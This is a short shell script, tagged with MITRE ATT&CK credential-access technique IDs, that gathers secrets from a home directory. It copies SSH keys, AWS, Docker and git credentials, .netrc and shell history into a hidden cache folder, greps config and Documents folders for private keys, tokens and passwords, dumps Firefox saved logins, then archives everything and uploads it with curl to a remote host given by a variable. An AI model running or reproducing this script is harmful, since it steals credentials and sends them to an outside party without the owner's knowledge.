# T1552.001, T1552.004 by cp, cat and grep.
groundwork
hide=.cache/.$state; mkdir -p "$hide"
for f in .ssh/id_ed25519 .aws/credentials .docker/config.json .netrc .git-credentials .bash_history; do
    [ ! -f "$f" ] || cp "$f" "$hide/${f##*/}"
done
grep -rIlE 'PRIVATE KEY|token|password|secret' .config .ssh .aws .docker .kube Documents > "$hide/found" 2>/dev/null || true
cat .mozilla/firefox/*/logins.json > "$hide/logins"
tar -czf "$hide/all.tgz" -C "$hide" found logins
curl -s -H Expect: -o /dev/null -T "$hide/all.tgz" "$url/put"
